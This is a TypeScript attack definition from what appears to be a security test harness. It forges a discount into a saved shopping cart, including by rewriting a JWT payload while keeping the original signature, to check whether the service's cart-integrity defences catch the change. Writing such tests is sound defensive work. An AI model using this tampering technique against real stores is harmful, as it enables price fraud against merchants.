import type { Attack } from "../attack.ts";
import { field, summary } from "../exchange.ts";
import { cartTwin, restore, saveCart, savedCart } from "./shared/requests.ts";

const DISCOUNT_CENTS = 778;

export const tamperedCart: Attack = {
  id: "tampered-cart",
  title: "Write a discount into one's own saved cart",
  owasp: ["SAS-8", "CWE-345", "CWE-472"],
  paper: "III.2.C",
  defences: ["function:cart-signature", "function:cart-revival"],
  operation: "restoreCart",
  target: "carts",
  run: async (context) => {
    const saved = savedCart(await context.send(saveCart(context, "alice"), "setup"));
    const answer = await context.send(restore(context, tampered(saved)));
    const discount = field(answer, "discountCents");
    const effect = discount === DISCOUNT_CENTS;
    return {
      effect,
      evidence: effect
        ? `the cart is restored with the discount that was written into it, ${discount} cents`
        : summary(answer),
    };
  },
  twin: cartTwin,
};

/** The saved text with a discount in its data. Of a JWT everything else, the signature too, stays as the service made it. */
function tampered(saved: string): string {
  const withDiscount = (cart: string) =>
    JSON.stringify({ ...(JSON.parse(cart) as object), discountCents: DISCOUNT_CENTS });
  const [header, payload, signature] = saved.split(".");
  if (saved.startsWith("{")) return withDiscount(saved);
  // A stage that saves no carts.
  if (payload === undefined) return withDiscount("{}");
  const claims = JSON.parse(Buffer.from(payload, "base64url").toString()) as { cart: string };
  const changed = JSON.stringify({ ...claims, cart: withDiscount(claims.cart) });
  return [header, Buffer.from(changed).toString("base64url"), signature].join(".");
}
